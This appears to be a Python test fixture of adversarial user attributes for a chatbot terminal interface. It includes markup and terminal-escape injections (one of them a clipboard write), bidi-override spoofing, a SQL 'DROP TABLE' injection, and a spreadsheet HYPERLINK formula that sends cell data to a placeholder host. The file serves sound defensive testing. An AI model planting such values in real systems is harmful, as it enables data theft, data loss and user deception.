"""What is laid over some of the newest users: whoever chats with a bot types what they like."""

from segtui.sandbox.chatbot.documents import Document

ATTRIBUTES: tuple[Document, ...] = (
    {"default_name": "[/red] VIP", "company": "[bold red]Rossi[/bold red]"},
    {"default_name": "[@click=app.quit]Jane[/]", "[reverse]plan[/]": "pro"},
    {"default_name": "\x1b]52;c;aGVsbG8=\x07Marco Polo", "default_city": "\x1b[2JRome"},
    {"default_name": "\x1b[31mRed\x1b[0m Alert", "last_question": "\x9b1;31mbell\x07\x08\x08"},
    {"default_name": "\u202egnp.exe Ann", "default_email": "ann\u202emoc.elpmaxe@example.com"},
    {"default_name": "Zero\u200bWidth\u2060Jo\ufeffiner", "default_city": "Ro\u00adme"},
    {"default_name": '=HYPERLINK("http://example.invalid/?x="&A1,"Click me")', "company": "@SUM(A1:A9)"},
    {"default_name": "Two\nLines\r\nof\tName", "last_question": "How much is\nthis?"},
    {"default_name": "", "default_email": "", "default_city": " "},
    {"default_name": "👩‍👩‍👧‍👦 Família 🇮🇹", "company": "a" * 300},
    {"default_name": "Robert'); DROP TABLE users;--", "__proto__": "x", "plan.name": "pro", "": "no key"},
    {"default_name": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘", "last_question": "x" * 1024},
    # What a bot's own block has set is not checked as a call is.
    {"default_name": "Numa Ciphers", "seats": 12, "newsletter": True, "order": {"number": "A-1"}, "tags": ["vip"]},
    {"default_name": "null", "default_email": "undefined", "plan": "None"},
)
